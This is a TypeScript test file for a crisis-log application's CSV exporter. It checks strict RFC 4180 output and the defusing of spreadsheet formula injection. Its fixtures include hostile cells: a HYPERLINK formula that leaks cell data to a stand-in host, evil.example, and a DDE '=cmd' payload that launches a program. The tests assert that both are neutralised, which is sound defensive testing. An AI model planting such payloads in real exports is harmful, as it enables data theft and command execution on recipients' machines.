import { expectGolden } from './golden.js';
import { describe, expect, it } from 'vitest';
import { buildLogCsv, buildReportCsv, csvCell } from '../../shared/report/csv.js';
import { cleanText } from '../../shared/report/html-field.js';
import type { LogExtract, LogRow, ReportDocument } from '../../shared/report/model.js';
import { HOSTILE, sampleLogExtract, sampleReport } from './fixtures.js';

/**
 * A strict RFC 4180 reader: records end in CRLF, a quoted field may hold anything with quotes
 * doubled, an unquoted one no quote, CR or LF. Anything else throws, so a sloppy writer fails here.
 */
function parseCsv(input: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  for (;;) {
    let cell = '';
    if (input[i] === '"') {
      i++;
      for (;;) {
        const q = input.indexOf('"', i);
        if (q === -1) throw new Error('unterminated quoted field');
        cell += input.slice(i, q);
        if (input[q + 1] === '"') { cell += '"'; i = q + 2; } else { i = q + 1; break; }
      }
    } else {
      const end = input.slice(i).search(/[,\r\n"]/);
      const stop = end === -1 ? input.length : i + end;
      if (input[stop] === '"') throw new Error(`quote inside an unquoted field at ${stop}`);
      cell = input.slice(i, stop);
      i = stop;
    }
    row.push(cell);
    if (input[i] === ',') { i++; continue; }
    if (input.startsWith('\r\n', i)) { rows.push(row); row = []; i += 2; if (i === input.length) return rows; continue; }
    throw new Error(`expected , or CRLF at ${i}, found ${JSON.stringify(input.slice(i, i + 10))}`);
  }
}

const BOM = '\ufeff';
function read(csv: string): string[][] {
  expect(csv.startsWith(BOM)).toBe(true);
  expect(csv.slice(1)).not.toContain(BOM);
  const rows = parseCsv(csv.slice(1));
  for (const row of rows) expect(row).toHaveLength(rows[0]!.length);
  return rows;
}

/** What a cell should read back as: the cleaned text, with a quote before a formula-looking start. */
const expected = (text: string) => (/^[=+\-@\t\r\n]/.test(cleanText(text)) ? `'${cleanText(text)}` : cleanText(text));

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', '+31 6 1234', '-2 voertuigen', '@SUM(A1:A9)', '\tingesprongen', '\r\n=1+1', 'a,b "c"\r\nd\ne'];

function row(n: number, text: string, extra: Partial<LogRow> = {}): LogRow {
  return { entryId: n.toString(16).padStart(64, '0'), at: '2026-07-01T10:00:00.000Z', happenedAt: null, who: text, authorKey: 'b'.repeat(64), kind: 'melding', text, classification: 'partner', corrections: [], ...extra };
}

describe('log CSV', () => {
  it('has a header row, CRLF line ends and a BOM, one row per log row', () => {
    const csv = buildLogCsv(sampleLogExtract());
    expect(csv.startsWith(`${BOM}entry-id,gelogd (lokaal),gelogd (UTC),gebeurd (lokaal),wie,auteursleutel,soort,rubricering,tekst,gecorrigeerd,oefening,gemaakt door\r\n`)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const rows = read(csv);
    expect(rows).toHaveLength(6);
    expect(rows[1]!.slice(0, 8)).toEqual(['1'.padStart(64, '0'), '2026-12-01 13:01:00 CET', '2026-12-01T12:01:00.000Z', '2026-12-01 12:55:00 CET', 'Anna de Vries (IM, ROT Brabant-Noord)', 'a11a'.padStart(64, '0'), 'melding', 'partner']);
    expect(rows[2]![9]).toBe('Gecorrigeerd: 3 voertuigen');
    expect(rows[1]![9]).toBe('');
    expect(read(buildLogCsv(sampleLogExtract({ lang: 'en' })))[0]![0]).toBe('entry id');
  });

  it('gives back every text exactly, hostile ones included, once parsed', () => {
    const extract = sampleLogExtract();
    const rows = read(buildLogCsv(extract));
    extract.rows.forEach((r, n) => {
      expect(rows[n + 1]![4]).toBe(expected(r.who));
      expect(rows[n + 1]![8]).toBe(expected(r.text));
    });
    expect(rows[1]![8]).toBe(HOSTILE.xml);
    expect(rows[2]![8]).toBe('bel\\u{7} esc\\u{1b}[31mrood\\u{1b}[0m nul\\u{0} tab\t vt\\u{b}');
    expect(rows[4]![8]).toBe(HOSTILE.emoji);
    expect(rows[5]![8]).toBe(HOSTILE.long);
  });

  it('defuses formula-looking cells and keeps quotes, commas and line breaks', () => {
    const extract: LogExtract = sampleLogExtract({ rows: FORMULAS.map((t, n) => row(n, t, { corrections: [{ entryId: 'c'.repeat(64), text: t, at: '2026-07-01T10:05:00.000Z', who: 'x' }] })) });
    const csv = buildLogCsv(extract);
    const rows = read(csv);
    FORMULAS.forEach((t, n) => {
      for (const column of [4, 8, 9]) expect(rows[n + 1]![column]).toBe(expected(t));
    });
    expect(rows[1]![8]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"klik")`);
    expect(rows[4]![8]).toBe(`'@SUM(A1:A9)`);
    expect(rows[5]![8]).toBe(`'\tingesprongen`);
    expect(rows[6]![8]).toBe(`'\n=1+1`);
    expect(rows[7]![8]).toBe('a,b "c"\nd\ne');
    expect(rows[1]![1]).toBe('2026-07-01 12:00:00 CEST');
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""klik"")"');
  });

  it('quotes only what needs it', () => {
    expect(csvCell('plain text')).toBe('plain text');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('=1')).toBe("'=1");
    expect(csvCell('a=1')).toBe('a=1');
  });

  it('says exercise on every row of an exercise', () => {
    const rows = read(buildLogCsv(sampleLogExtract({ exercise: true })));
    expect(rows.slice(1).every((r) => r.at(-2) === 'OEFENING')).toBe(true);
    expect(read(buildLogCsv(sampleLogExtract())).slice(1).every((r) => r.at(-2) === '')).toBe(true);
    // Every row names what made it: a CSV has no page for it.
    expect(rows.slice(1).every((r) => r.at(-1) === 'Baken 0.1.0 · ROT Brabant-Noord · Anna de Vries (IM, ROT Brabant-Noord) · 2026-12-01 16:00:00 CET')).toBe(true);
  });

  it('writes only a header for an empty extract', () => {
    expect(read(buildLogCsv(sampleLogExtract({ rows: [] })))).toHaveLength(1);
  });
});

describe('report CSV', () => {
  it('has one row per section item and per action', () => {
    const doc = sampleReport();
    const rows = read(buildReportCsv(doc));
    const items = doc.sections.flatMap((s) => s.items.map((i) => ({ s, i })));
    expect(rows).toHaveLength(1 + items.length + doc.actions.length);
    expect(rows[0]!.slice(0, 4)).toEqual(['sectie', 'sectietitel', 'discipline', 'entry-id']);
    items.forEach(({ s, i }, n) => {
      const r = rows[n + 1]!;
      expect([r[0], r[1], r[3], r[5], r[7], r[8], r[9], r[10], r[12]]).toEqual([s.key, s.title, i.entryId, i.at, expected(i.who), i.kind, i.classification, i.change, expected(i.text)]);
    });
    expect(rows.find((r) => r[3] === '6'.padStart(64, '0'))![2]).toBe('BRW');
    expect(rows.find((r) => r[3] === '2'.padStart(64, '0'))![11]).toBe('ja');
    const [urgent, press] = rows.slice(-2);
    expect(urgent).toEqual(['actions', 'Acties', '', '8'.padStart(64, '0'), '', '', '', '', 'actie', 'partner', 'new', '', `Noodstroom regelen <b>nu</b>\n${HOSTILE.xml}`, 'URGENT', 'in_progress', 'Netbeheerder Enexis', 'Anna de Vries (IM, ROT Brabant-Noord)', '2026-12-01 17:00:00 CET', '', `Baken 0.1.0 · ROT Brabant-Noord · Anna de Vries (IM, ROT Brabant-Noord) · SITREP 2 (${'5e7'.padStart(64, '0')}) · 2026-12-01 16:00:00 CET`]);
    expect(press!.slice(13, 18)).toEqual(['LOW', 'done', 'CCOM', '', '']);
  });

  it('defuses formulas in items and actions too', () => {
    const base = sampleReport({ exercise: true, lang: 'en' });
    const doc: ReportDocument = {
      ...base,
      sections: base.sections.map((s) => ({ ...s, items: s.items.map((i, n) => ({ ...i, text: FORMULAS[n % FORMULAS.length]! })) })),
      actions: base.actions.map((a) => ({ ...a, description: '=cmd|" /C calc"!A0', owner: { ...a.owner, label: '+owner' } })),
    };
    const rows = read(buildReportCsv(doc));
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    expect(rows.at(-1)!.slice(12, 16)).toEqual([`'=cmd|" /C calc"!A0`, 'LOW', 'done', "'+owner"]);
    expect(rows.slice(1).every((r) => r.at(-2) === 'EXERCISE')).toBe(true);
  });

  it('matches the golden files byte for byte', () => {
    const extract = sampleLogExtract({ rows: [...sampleLogExtract().rows.filter((r) => r.text !== HOSTILE.long), ...FORMULAS.map((t, n) => row(0x40 + n, t))] });
    expect(buildLogCsv(extract)).toBe(buildLogCsv(extract));
    expectGolden('log.csv', buildLogCsv(extract));
    const doc = sampleReport();
    const short: ReportDocument = { ...doc, sections: doc.sections.map((s) => ({ ...s, items: s.items.map((i) => (i.text === HOSTILE.long ? { ...i, text: 'Lange melding. '.repeat(3) } : i)) })) };
    expectGolden('report.csv', buildReportCsv(short));
  });
});

